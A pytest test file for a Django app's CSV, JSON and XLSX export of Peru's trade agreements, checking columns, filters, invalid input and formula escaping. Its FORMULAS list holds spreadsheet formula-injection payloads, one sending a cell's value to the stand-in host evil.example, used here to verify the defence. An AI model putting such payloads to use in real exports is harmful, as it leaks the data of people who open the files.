"""/agreements/export.csv|json|xlsx: every matching record, stable columns, the listing's filters."""

import csv
import io
import json
import re

import pytest
from openpyxl import load_workbook

from agreements.exports import COLUMNS
from agreements.models import Agreement
from tests.factories import make_agreement

pytestmark = pytest.mark.django_db

EXPECTED_COLUMNS = [
    "slug",
    "title",
    "title_es",
    "short_name",
    "kind",
    "status",
    "book_status",
    "year",
    "year_start",
    "year_end",
    "parties_iso",
    "parties",
    "url",
]


def read_csv(response):
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8"))))


def read_json(response):
    data = json.loads(response.content)
    assert data["count"] == len(data["results"])
    return data["results"]


def read_xlsx(response):
    sheet = load_workbook(io.BytesIO(response.content), read_only=True).active
    header, *rows = list(sheet.iter_rows(values_only=True))
    assert list(header) == EXPECTED_COLUMNS
    return [dict(zip(header, row, strict=True)) for row in rows]


READERS = {"csv": read_csv, "json": read_json, "xlsx": read_xlsx}


def export(client, fmt, params=None):
    response = client.get(f"/en/agreements/export.{fmt}", params or {})
    assert response.status_code == 200
    return response, READERS[fmt](response)


def test_the_columns_are_a_stable_contract():
    assert EXPECTED_COLUMNS == COLUMNS


@pytest.mark.parametrize("fmt", ["csv", "json", "xlsx"])
@pytest.mark.parametrize(("status", "count"), [("", 29), ("in_force", 23), ("signed", 2), ("negotiating", 4)])
def test_row_counts_per_status(client, fmt, status, count):
    _response, rows = export(client, fmt, {"status": status} if status else {})
    assert len(rows) == count
    if status:
        assert {row["status"] for row in rows} == {status}


@pytest.mark.parametrize("fmt", ["csv", "json", "xlsx"])
def test_every_matching_record_not_one_page(client, fmt, many_records):
    _response, rows = export(client, fmt)
    assert len(rows) == 29 + len(many_records)


@pytest.mark.parametrize("fmt", ["csv", "json", "xlsx"])
def test_attachment_with_a_sensible_filename(client, fmt):
    response, _rows = export(client, fmt)
    assert re.fullmatch(
        rf'attachment; filename="peru-trade-agreements-\d{{4}}-\d\d-\d\d\.{fmt}"', response["Content-Disposition"]
    )


def test_content_types(client):
    assert client.get("/en/agreements/export.csv")["Content-Type"] == "text/csv; charset=utf-8"
    assert client.get("/en/agreements/export.json")["Content-Type"] == "application/json"
    assert client.get("/en/agreements/export.xlsx")["Content-Type"].startswith("application/vnd.openxmlformats")


def test_csv_header_and_one_row(client):
    response, rows = export(client, "csv", {"q": "Thailand"})
    assert response.content.decode().splitlines()[0] == ",".join(EXPECTED_COLUMNS)
    assert rows == [
        {
            "slug": "peru-thailand-fta",
            "title": "Peru–Thailand Free Trade Agreement",
            "title_es": rows[0]["title_es"],
            "short_name": rows[0]["short_name"],
            "kind": "free_trade",
            "status": "in_force",
            "book_status": "in_force",
            "year": "2006-2010",
            "year_start": "2006",
            "year_end": "2010",
            "parties_iso": "TH",
            "parties": "Thailand",
            "url": "http://testserver/en/agreements/peru-thailand-fta/",
        }
    ]
    assert rows[0]["title_es"]


def test_json_keeps_types_and_lists_bloc_parties_by_short_name(client):
    _response, rows = export(client, "json", {"country": "DE"})
    by_slug = {row["slug"]: row for row in rows}
    assert set(by_slug) == {"peru-eu-trade-agreement", "tisa"}
    assert by_slug["peru-eu-trade-agreement"]["parties_iso"] == "EU"
    assert by_slug["peru-eu-trade-agreement"]["year_start"] == 2011
    tisa = by_slug["tisa"]
    assert tisa["year"] == "" and tisa["year_start"] is None and tisa["year_end"] is None
    assert "JP" in tisa["parties_iso"].split("; ") and "EU" in tisa["parties_iso"].split("; ")
    assert "Japan" in tisa["parties"].split("; ")


def test_xlsx_rows_match_csv_rows(client):
    _r, csv_rows = export(client, "csv", {"sort": "-year"})
    _r, xlsx_rows = export(client, "xlsx", {"sort": "-year"})
    assert [r["slug"] for r in csv_rows] == [r["slug"] for r in xlsx_rows]
    assert xlsx_rows[0]["slug"] == "cptpp"


def test_xlsx_never_stores_text_as_a_formula(client):
    agreement = Agreement.objects.get(slug="wto")
    agreement.short_name = '=HYPERLINK("http://example.com")'
    agreement.save()
    _r, rows = export(client, "xlsx", {"q": "World Trade"})
    assert rows[0]["short_name"] == '=HYPERLINK("http://example.com")'


def test_exports_follow_the_listings_filters(client):
    for fmt in READERS:
        _r, rows = export(client, fmt, {"country": "jp", "status": "in_force"})
        assert {row["slug"] for row in rows} == {"peru-japan-epa", "cptpp"}


def test_non_live_records_are_not_exported(client):
    Agreement.objects.get(slug="tisa").unpublish()
    _r, rows = export(client, "json", {"status": "negotiating"})
    assert len(rows) == 3


BAD_INPUT = [
    {"status": "cancelled"},
    {"kind": "treaty"},
    {"region": "atlantis"},
    {"sort": "random"},
    {"year_from": "abc"},
    {"year_from": "-2000"},
    {"year_to": "99999999999999999999"},
    {"country": "JPN"},
    {"q": "x" * 5000},
    {"page": "-1"},
]


@pytest.mark.parametrize("fmt", ["csv", "json", "xlsx"])
@pytest.mark.parametrize("params", BAD_INPUT)
def test_an_invalid_value_is_the_same_as_no_value(client, fmt, params):
    _response, rows = export(client, fmt, params)
    assert len(rows) == 29


@pytest.mark.parametrize("fmt", ["csv", "json", "xlsx"])
def test_an_invalid_value_leaves_the_valid_filters_working(client, fmt):
    _response, rows = export(client, fmt, {"status": "signed", "year_from": "abc", "kind": "nonsense"})
    assert len(rows) == 2


def test_reversed_years_and_unknown_country(client):
    assert read_json(client.get("/en/agreements/export.json", {"year_from": "2019", "year_to": "2000"})) != []
    assert read_json(client.get("/en/agreements/export.json", {"country": "XX"})) == []


def test_a_nul_byte_in_q_separates_words_as_on_the_search_page(client):
    japan = read_json(client.get("/en/agreements/export.json", {"q": "Japan"}))
    assert japan and read_json(client.get("/en/agreements/export.json", {"q": "Japan\x00"})) == japan


def test_unknown_format_is_404(client):
    assert client.get("/en/agreements/export.pdf").status_code == 404


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+1", "-2+3", "@SUM(A1:A2)", "\tcmd", "\rcmd"]


@pytest.mark.parametrize("title", FORMULAS)
def test_a_cell_that_would_start_a_formula_stays_text(client, title):
    make_agreement(title=title, slug="formula", book_order=0)
    # CSV: OWASP's apostrophe in front. Excel: the very text, stored as a text cell.
    row = next(row for row in read_csv(client.get("/en/agreements/export.csv")) if row["slug"] == "formula")
    assert row["title"] == "'" + title
    sheet = load_workbook(io.BytesIO(client.get("/en/agreements/export.xlsx").content)).active
    header = [cell.value for cell in next(sheet.iter_rows())]
    row = next(row for row in sheet.iter_rows() if row[header.index("slug")].value == "formula")
    cell = row[header.index("title")]
    # (openpyxl reads a leading carriage return back as a line feed)
    assert cell.data_type == "s" and cell.value.strip() == title.strip()
